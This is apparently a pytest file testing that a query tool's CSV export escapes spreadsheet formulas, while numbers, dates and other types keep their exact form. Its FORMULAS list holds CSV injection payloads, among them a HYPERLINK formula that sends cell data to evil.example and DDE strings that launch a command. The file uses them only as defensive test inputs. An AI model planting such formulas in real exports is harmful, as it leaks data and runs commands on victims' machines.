"""What a spreadsheet would run is no formula any more in a CSV file; numbers stay numbers, other formats stay exact."""

import csv
import json
from pathlib import Path

import pytest

from core.events import Column
from tests.contract.conftest import World

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2-3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "  =1+1",
    "＝1+1",
    "+",
    "-",
    "=",
    "- a note",
    "+49 30 1234",
]
HARMLESS = ["", "a=1", "1-2", "-5", "+3.25", "-1.234,5", "a@b.example", "'quoted'", "é", "x\n=1", '"', "a,b"]


def exported(world: World, sql: str, tmp_path: Path) -> list[list[str]]:
    path = tmp_path / "out.csv"
    world.query.export(sql, str(path))
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_texts_of_strangers_are_no_formulas(quiet_world: World, tmp_path: Path) -> None:
    world = quiet_world
    rows = [{"name": text, "_row_id": str(place)} for place, text in enumerate([*FORMULAS, *HARMLESS])]
    world.lake.append("silver.formulas", (Column(name="name", type="string"),), rows, 1)
    sql = "SELECT name FROM silver.formulas ORDER BY _row_id::INTEGER"
    [heading, *found] = exported(world, sql, tmp_path)
    assert heading == ["name"]
    # an empty text is one cell that the reader takes for an empty line
    assert [row[0] if row else "" for row in found] == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
    assert [text for (text,) in world.query.run(sql).rows] == [*FORMULAS, *HARMLESS]
    world.query.export(sql, str(tmp_path / "out.json"))
    assert [row["name"] for row in json.loads((tmp_path / "out.json").read_text("utf-8"))] == [*FORMULAS, *HARMLESS]


def test_numbers_and_dates_stay_what_they_are(quiet_world: World, tmp_path: Path) -> None:
    sql = """SELECT -1 AS a, -2.5::DOUBLE AS b, -3.25::DECIMAL(9, 2) AS c, DATE '2026-02-03' AS d, true AS e, NULL AS f,
        [-1, 2] AS g, {'x': '=1'} AS h, TIMESTAMP '2026-02-03 04:05:06' AS i, -170141183460469231731::HUGEINT AS j"""
    [heading, row] = exported(quiet_world, sql, tmp_path)
    assert heading == list("abcdefghij")
    assert row[:7] == ["-1", "-2.5", "-3.25", "2026-02-03", "true", "", "[-1, 2]"]
    assert row[7].startswith("{")
    assert row[8:] == ["2026-02-03 04:05:06", "-170141183460469231731"]


@pytest.mark.parametrize("cell", ["'=1+1'::BLOB", "'=1+1'::ENUM ('=1+1')", "'=1+1'::UNION (n INTEGER, s VARCHAR)"])
def test_texts_of_other_types_are_no_formulas_either(quiet_world: World, cell: str, tmp_path: Path) -> None:
    assert exported(quiet_world, f"SELECT {cell} AS a", tmp_path)[1] == ["'=1+1"]


def test_headings_are_no_formulas_and_may_be_alike(quiet_world: World, tmp_path: Path) -> None:
    sql = """SELECT 1 AS "=a", 2 AS same, 3 AS same, 4 AS "q""uote" """
    assert exported(quiet_world, sql, tmp_path) == [["'=a", "same", "same_1", 'q"uote'], ["1", "2", "3", "4"]]


def test_rows_keep_their_order(quiet_world: World, tmp_path: Path) -> None:
    sql = "SELECT 'n' || range AS n FROM range(50000) ORDER BY range DESC"
    assert [row[0] for row in exported(quiet_world, sql, tmp_path)[1:]] == [f"n{n}" for n in range(49_999, -1, -1)]
